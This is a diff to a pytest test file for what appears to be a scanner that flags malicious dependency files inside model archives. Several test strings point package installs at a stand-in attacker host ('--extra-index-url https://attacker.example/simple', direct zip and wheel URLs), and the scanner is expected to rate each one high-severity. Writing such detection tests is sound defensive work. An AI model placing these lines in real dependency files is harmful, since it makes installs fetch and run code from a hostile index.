@@ -498,14 +498,17 @@ def _mar(requirements_name: str, requirements: str) -> bytes:
 
 @pytest.mark.parametrize("name", ["deps.txt", "pip-deps", "extra.in"])
 def test_requirements_under_another_name(tmp_path: Path, name: str) -> None:
-    text = "torch==2.1.0\nPillow>=10\n--extra-index-url https://attacker.example/simple\n"
-    assert _scan(tmp_path, name, text)[1] is Severity.HIGH
+    for text in ("torch==2.1.0\nPillow>=10\n--extra-index-url https://attacker.example/simple\n",
+                 "torch==2.1.0\n--extra-ind https://attacker.example/simple\n", "pkg @ https://attacker.example/p.zip\n",
+                 "https://attacker.example/pkg-1.0-py3-none-any.whl\n"):
+        assert _scan(tmp_path, name, text)[1] is Severity.HIGH, text
     verdict, top, titles = _scan(tmp_path, "model.mar", _mar(name, "torchvision==0.16\ngit+https://x.example/p.git\n"))
     assert top is Severity.HIGH and verdict is Verdict.MALICIOUS, titles
 
 
 @pytest.mark.parametrize("text", ["cat\ndog\nbird\n", "torch==2.1.0\nPillow>=10\n", "see https://example.com\n",
-                                  "label one\nlabel two\n"])
+                                  "label one\nlabel two\n", "https://data.example/train.tar.gz\nhttps://data.example/"
+                                  "val.zip\n", "-1.5\n2.0\n-3\n"])
 def test_label_and_pinned_lists_under_other_names_stay_safe(tmp_path: Path, text: str) -> None:
     verdict, top, titles = _scan(tmp_path, "labels.txt", text)
     assert verdict is Verdict.SAFE and top <= Severity.LOW, titles
